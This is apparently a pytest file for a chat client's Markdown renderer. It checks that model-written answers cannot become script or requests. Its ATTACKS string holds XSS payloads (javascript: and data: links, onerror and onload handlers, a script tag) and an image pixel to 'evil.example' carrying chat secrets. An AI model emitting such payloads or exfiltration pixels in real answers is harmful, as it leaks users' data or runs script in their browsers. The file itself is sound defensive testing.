"""Answers are rendered as Markdown, safely: nothing the model writes becomes script, a request or markup."""

from __future__ import annotations

from html.parser import HTMLParser

from chat_client.markdown import render_markdown

from tests.chat_client.scripted_model import ScriptedModel

ATTACKS = (
    "[click](javascript:alert(1)) [upper](JaVaScRiPt:alert(2)) [spaced]( javascript:alert(3))"
    " [encoded](java&#x73;cript:alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:x)\n\n"
    "![pixel](https://evil.example/p.png?chat=secret) ![x](javascript:alert(5))"
    ' <img src=x onerror="alert(6)"> <script>alert(7)</script> <a href="javascript:alert(8)">raw</a>\n\n'
    '[ok](https://example.com "title") <https://auto.example> <svg onload=alert(9)>'
)


def test_markdown_renders_what_answers_use():
    html = render_markdown(
        "# Title\n\n- one\n- **two**\n\n1. first\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint('<hi>')\n```\n\nInline `code` and [a link](https://example.com)."
    )
    for fragment in (
        "<h1>Title</h1>",
        "<li><strong>two</strong></li>",
        "<ol>",
        "<table>",
        "<td>2</td>",
        "<pre><code class=\"language-python\">print('&lt;hi&gt;')\n</code></pre>",
        "<code>code</code>",
        '<a href="https://example.com" rel="noopener noreferrer nofollow">a link</a>',
    ):
        assert fragment in html, fragment


class Elements(HTMLParser):
    """Every element and attribute of an HTML fragment, as a browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_links_images_and_raw_html_from_the_model_stay_inert():
    html = render_markdown(ATTACKS)
    elements = Elements(html).tags
    assert {tag for tag, _ in elements} <= {"p", "a"}  # no img, script, svg: raw HTML is text
    hrefs = [attrs["href"] for tag, attrs in elements if tag == "a"]
    assert hrefs == ["https://evil.example/p.png?chat=secret", "https://example.com", "https://auto.example"]
    assert all(set(attrs) <= {"href", "title", "rel"} for _, attrs in elements)  # no on* handlers
    # Raw HTML shows as text; an image becomes a plain link the person may choose to follow.
    assert "&lt;script&gt;" in html and "&lt;img" in html
    assert (
        '<a href="https://evil.example/p.png?chat=secret" rel="noopener noreferrer nofollow">pixel</a>'
        in html
    )


async def test_api_and_page_carry_the_sanitised_html(chat_app):
    async with ScriptedModel([ATTACKS]).serve() as model:
        browser = await (await chat_app(openai_base_url=model.url)).open()
        chat_id = await browser.new_chat()
        events = await browser.send(chat_id, "attack")
        done = events[-1].data["message"]
        assert done["content"] == ATTACKS and done["html"] == render_markdown(ATTACKS)
        page = await (await browser.client.get(f"/chats/{chat_id}")).text()
        assert render_markdown(ATTACKS) in page
        assert "<script>alert" not in page and "<img" not in page
